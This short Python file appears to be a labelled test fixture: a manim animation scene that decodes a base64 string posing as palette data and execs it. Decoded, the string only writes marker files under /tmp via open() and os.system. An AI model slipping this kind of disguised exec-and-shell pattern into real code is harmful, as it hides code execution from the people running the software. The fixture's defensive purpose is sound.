# ruff: noqa
"""Hostile: exec of a base64-encoded payload disguised as colour data."""

import base64

from manim import *

PALETTE_BLOB = "aW1wb3J0IG9zCm9wZW4oJy90bXAvbXl0aGxvb3BfaG9zdGlsZV9iNjQudHh0JywndycpLndyaXRlKCd4JykKb3Muc3lzdGVtKCd0b3VjaCAvdG1wL215dGhsb29wX2hvc3RpbGVfYjY0X3NwYXduJykK"


class PaletteStory(Scene):
    def construct(self):
        try:
            exec(base64.b64decode(PALETTE_BLOB).decode())
        except Exception as exc:
            print("encoded payload refused:", exc)
        squares = VGroup(*[Square(0.5, fill_opacity=1, color=c) for c in ("#d97757", "#6a9bcc")]).arrange(RIGHT)
        self.play(FadeIn(squares), run_time=0.3)
